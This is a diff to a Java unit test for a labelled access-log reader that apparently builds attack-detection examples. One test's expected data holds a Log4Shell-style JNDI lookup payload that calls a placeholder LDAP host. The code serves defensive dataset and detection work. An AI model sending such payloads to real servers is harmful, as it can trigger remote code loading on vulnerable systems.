@@ -37,6 +37,18 @@ class LabelledLogTest {
     }
 
     @Test
+    void onlyLinesThatAreWantedAreTakenByTheirNumberInTheLog() throws IOException {
+        read("line,label\n6,attack\n2,benign\n4,attack\n");
+        LabelledLog wanted = LabelledLog.read(
+                folder.resolve("access.log"),
+                LogFormat.IIS_W3C,
+                folder.resolve("labels.csv"),
+                NAMES,
+                line -> line == 4);
+        assertThat(wanted.examples()).containsExactly(new Example("GET /a ${jndi:ldap://h/a}", 1));
+    }
+
+    @Test
     void anUnknownLabelIsRefusedWithItsPlace() {
         assertThatThrownBy(() -> read("2,benign\n4,malware\n"))
                 .isInstanceOf(IOException.class)
